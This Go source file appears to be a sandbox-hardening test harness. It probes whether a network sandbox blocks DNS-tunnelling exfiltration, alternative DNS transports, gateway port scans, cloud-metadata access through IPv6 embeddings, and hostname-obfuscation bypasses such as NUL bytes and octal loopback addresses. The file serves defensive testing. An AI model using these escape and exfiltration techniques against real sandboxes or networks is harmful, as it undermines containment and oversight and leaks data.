package main

import (
	"fmt"
	"net/netip"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/consentry/consentry/attack"
	"github.com/consentry/consentry/sandbox"
)

func networkAttacks() map[string]func(*probe) {
	return map[string]func(*probe){
		"held": (*probe).held, "no-grant": (*probe).noGrant, "exfiltration": (*probe).exfiltration,
		"other-ways": (*probe).otherWays, "other-names": (*probe).otherNames, "gateway-ports": (*probe).gatewayPorts,
		"frames": (*probe).frames, "spoofing": (*probe).spoofing, "syn-flood": (*probe).synFlood, "name-flood": (*probe).nameFlood,
		"ipv6-forms": (*probe).ipv6Forms, "ipv6-granted": (*probe).ipv6Granted, "name-forms": (*probe).nameForms,
	}
}

// doors are the ways to the same place.
func (p *probe) doors(port uint16) map[string]netip.AddrPort {
	return map[string]netip.AddrPort{
		"name":     netip.AddrPortFrom(p.synthetic("host", typeA), port),
		"name6":    netip.AddrPortFrom(p.synthetic("host", typeAAAA), port),
		"address":  netip.AddrPortFrom(p.addr("addr4"), port),
		"address6": netip.AddrPortFrom(p.addr("addr6"), port),
	}
}

func (p *probe) held() {
	fds := map[string]int{}
	for door, to := range p.doors(80) {
		fd, err := begin(to)
		must(err)
		fds[door] = fd
	}
	time.Sleep(time.Second / 2) // once for all: the error of a socket can be read only once
	for door, fd := range fds {
		p.tell(door+", at first", outcome(fd, 0))
	}
	for door, fd := range fds {
		p.tell(door, outcome(fd, 30*time.Second))
	}
}

func (p *probe) noGrant() {
	for door, to := range p.doors(80) {
		p.connect("tcp "+door, to)
	}
	for door, to := range p.doors(9999) {
		p.exchange("udp "+door, to, []byte("secret"))
	}
}

func (p *probe) exfiltration() {
	label := strings.Repeat("5ec4e7", 10)
	domain := "." + p.target("other")
	p.resolve("long labels", resolver4, asks(label+"."+label+"."+label+domain, typeA))
	p.tell("over tcp", resolveTCP(resolver4, asks(label+domain, typeAAAA)))
	p.resolve("by the other family", resolver6, asks(label+domain, typeA))
	many := attack.MadeUp
	for i := range 2000 {
		if said, _ := resolve(resolver4, asks(fmt.Sprintf("data%d%s", i, domain), typeA)); said != attack.MadeUp {
			many = fmt.Sprintf("%d: %s", i, said)
			break
		}
	}
	p.tell("2,000 names", many)
	for kind, number := range map[string]uint16{
		"TXT": typeTXT, "MX": typeMX, "SRV": typeSRV, "NULL": typeNULL, "ANY": typeANY, "HTTPS": typeHTTPS, "SVCB": typeSVCB,
		"CNAME": typeCNAME, "NS": typeNS, "SOA": typeSOA, "AXFR": typeAXFR,
	} {
		p.resolve(kind, resolver4, asks(label+domain, number))
	}
	p.resolve("TXT of a service", resolver6, asks("_"+label+"._tcp"+domain, typeTXT))
	p.tell("TXT over tcp", resolveTCP(resolver6, asks(label+domain, typeTXT)))
	p.resolve("PTR of a public address", resolver4, asks("9.9.9.9.in-addr.arpa", typePTR))
	p.resolve("PTR with data in it", resolver4, asks(label+".9.in-addr.arpa", typePTR))
	p.resolve("update", resolver4, question(5<<11, label+domain, typeSOA, classIN))
	p.resolve("an answer", resolver4, question(1<<15, label+domain, typeA, classIN))
	p.resolve("chaos class", resolver4, question(0x0100, label+domain, typeTXT, classCHAOS))
}

func (p *probe) otherWays() {
	world := func(port uint16) netip.AddrPort { return netip.AddrPortFrom(p.addr("addr4"), port) }
	name := "5ec4e7." + p.target("other")
	p.resolve("another resolver", world(sandbox.DNSPort), asks(name, typeA))
	p.tell("another resolver, tcp", resolveTCP(world(sandbox.DNSPort), asks(name, typeA)))
	p.resolve("another resolver, TXT", world(sandbox.DNSPort), asks(name, typeTXT))
	p.connect("DNS over TLS", world(853))
	p.connect("DNS over HTTPS", world(443))
	p.exchange("DNS over QUIC", world(853), make([]byte, 1200))
	p.exchange("QUIC to the granted name", netip.AddrPortFrom(p.synthetic("host", typeA), 443), make([]byte, 1200))
	p.exchange("QUIC to an address", world(443), make([]byte, 1200))
	p.exchange("QUIC to an address6", netip.AddrPortFrom(p.addr("addr6"), 443), make([]byte, 1200))
	for try, to := range map[string]string{
		"mDNS": "224.0.0.251:5353", "LLMNR": "224.0.0.252:5355", "SSDP": "239.255.255.250:1900", "mDNS6": "[ff02::fb%" + sandbox.LinkDevice + "]:5353",
	} {
		p.exchange(try, netip.MustParseAddrPort(to), asks(name, typeA))
	}
	p.tell("broadcast", broadcast(at("255.255.255.255", 9999), 0))
}

// broadcast sends to everybody from a port of its own choice, or from any.
func broadcast(to netip.AddrPort, from int) string {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	must(err)
	defer unix.Close(fd)
	must(unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1))
	must(unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1))
	must(unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1}))
	if err := unix.Bind(fd, &unix.SockaddrInet4{Port: from}); err != nil {
		return nameOf(err)
	}
	_, sa := sockaddr(to)
	if err := unix.Sendto(fd, make([]byte, 300), 0, sa); err != nil {
		return nameOf(err)
	}
	switch _, _, err := unix.Recvfrom(fd, make([]byte, 1500), 0); err {
	case nil:
		return attack.Answered
	case unix.EAGAIN:
		return attack.Silence
	default:
		return nameOf(err)
	}
}

func (p *probe) gatewayPorts() {
	for family, gateway := range map[string]string{"": sandbox.Gateway4, "6": sandbox.Gateway6} {
		p.tell("tcp"+family+" ports", scan(gateway))
		p.tell("udp"+family+" ports", firstOther("ECONNREFUSED", []uint16{67, 68, 69, 123, 161, 443, 547, 1900, 5353, 9999, 51820}, func(port uint16) string {
			return exchange(at(gateway, port), []byte("x"))
		}))
	}
	p.connect("the host's server by the gateway", at(sandbox.Gateway4, p.port()))
	p.connect("by loopback", at("127.0.0.1", p.port()))
	p.connect("by loopback6", at("::1", p.port()))
	p.connect("by its address", netip.AddrPortFrom(p.addr("machine"), p.port()))
	_, host := resolve(resolver4, asks(sandbox.HostName, typeA))
	p.connect("by its name", netip.AddrPortFrom(host, p.port()))
	_, local := resolve(resolver4, asks("x.localhost", typeA))
	p.connect("by localhost", netip.AddrPortFrom(local, p.port()))
	p.connect("a neighbour", at("10.0.2.3", 80))
	p.connect("a neighbour6", at("fd00:c0de::3", 80))
	p.connect("resolver", resolver6)
	p.connect("data API", at(sandbox.Gateway6, sandbox.DataAPIPort))
}

// scan tries the ports below 1025 and some well-known ones.
func scan(gateway string) string {
	ports := []uint16{2375, 3306, 5432, 6379, 8080, 9998, 10000, 11434, 27017, 65535}
	for port := uint16(1); port <= 1024; port++ {
		if port != sandbox.DNSPort {
			ports = append(ports, port)
		}
	}
	return firstOther("ECONNREFUSED", ports, func(port uint16) string { return connect(at(gateway, port)) })
}

// firstOther is want when every port says so, and else the first that does not.
func firstOther(want string, ports []uint16, try func(uint16) string) string {
	for _, port := range ports {
		if got := try(port); got != want {
			return fmt.Sprintf("%d: %s", port, got)
		}
	}
	return want
}

func (p *probe) ipv6Forms() {
	fds := map[string]int{}
	four := p.addr("addr4").As4()
	for try, addr := range map[string]netip.Addr{
		"mapped": embed("::ffff:0:0", 12, four), "nat64": embed("64:ff9b::", 12, four), "6to4": embed("2002::1", 2, four),
		"nat64 of loopback": embed("64:ff9b::", 12, [4]byte{127, 0, 0, 1}), "nat64 of metadata": embed("64:ff9b::", 12, [4]byte{169, 254, 169, 254}),
		"local nat64": embed("64:ff9b:1::", 12, four), "6to4 of metadata": embed("2002::1", 2, [4]byte{169, 254, 169, 254}),
		"metadata6": netip.MustParseAddr("fd00:ec2::254"), "unique local": netip.MustParseAddr("fd12:3456::1"), "site local": netip.MustParseAddr("fec0::1"),
		"compatible": embed("::", 12, four), "compatible loopback": embed("::", 12, [4]byte{127, 0, 0, 1}),
		"mapped loopback": embed("::ffff:0:0", 12, [4]byte{127, 0, 0, 1}), "unspecified": netip.IPv6Unspecified(), "teredo": netip.MustParseAddr("2001::1"),
		"link-local": netip.MustParseAddr("fe80::1%" + sandbox.LinkDevice), "multicast": netip.MustParseAddr("ff02::1%" + sandbox.LinkDevice),
	} {
		port := uint16(80)
		if strings.HasSuffix(try, "loopback") || try == "unspecified" {
			port = p.port()
		}
		fd, err := begin(netip.AddrPortFrom(addr, port))
		if err != nil {
			p.try(try, err)
			continue
		}
		fds[try] = fd
	}
	for try, fd := range fds {
		result := outcome(fd, 4*time.Second) // longer than the kernel looks for a neighbour
		if result == attack.Held {
			result = attack.Silence
		}
		p.tell(try, result)
	}
}

// embed puts an IPv4 address into an IPv6 one.
func embed(prefix string, place int, four [4]byte) netip.Addr {
	raw := netip.MustParseAddr(prefix).As16()
	copy(raw[place:], four[:])
	return netip.AddrFrom16(raw)
}

func (p *probe) ipv6Granted() {
	four := p.addr("addr4")
	mapped := embed("::ffff:0:0", 12, four.As4())
	p.connect("plain", netip.AddrPortFrom(four, 80))
	p.connect("mapped", netip.AddrPortFrom(mapped, 80))
	p.connect("nat64", netip.AddrPortFrom(embed("64:ff9b::", 12, four.As4()), 80))
	p.connect("6to4", netip.AddrPortFrom(embed("2002::1", 2, four.As4()), 80))
	p.connect("another port", netip.AddrPortFrom(four, 81))
	p.connect("another port, mapped", netip.AddrPortFrom(mapped, 81))
}

func (p *probe) nameForms() {
	host := p.target("host")
	granted := p.synthetic("host", typeA)
	form := func(try, name string) netip.Addr {
		said, addr := resolve(resolver4, asks(name, typeA))
		if addr == granted {
			said = attack.Same
		}
		p.tell(try, said)
		return addr
	}
	capitals := form("capitals", strings.ToUpper(host))
	form("mixed", strings.ToUpper(host[:1])+host[1:])
	form("full width", fullWidth(host))
	form("punycode", "xn--bcher-kva."+host)
	form("its text", "bücher."+host)
	form("a label more", "www."+host)
	for try, name := range map[string]string{
		"NUL": strings.Replace(host, ".", "\x00.", 1), "NUL at the end": host + "\x00", "space": "a b." + host, "hexadecimal": "0x7f.1", "decimal": "2130706433",
		"short": "127.1", "octal": "0177.0.0.1", "plain address": "127.0.0.1", "address with a dot": "10.0.0.1.", "underscore": "_a." + host,
		"bad punycode": "xn--a", "hyphen": "-a." + host, "percent": "a%2e" + host, "at": "a@" + host, "slash": "a/" + host, "backslash": "a\\" + host,
		"root": ".", "arpa": "x.arpa",
	} {
		form(try, name)
	}
	request := "GET /forms HTTP/1.1\r\nHost: " + strings.ToUpper(host) + "\r\nConnection: close\r\n\r\n"
	p.tell("calls it in capitals", says(netip.AddrPortFrom(capitals, 80), request))
}

// fullWidth writes a name in letters that are mapped to the plain ones.
func fullWidth(name string) string {
	return strings.Map(func(r rune) rune {
		if 'a' <= r && r <= 'z' {
			return r - 'a' + 'ａ'
		}
		return r
	}, name)
}
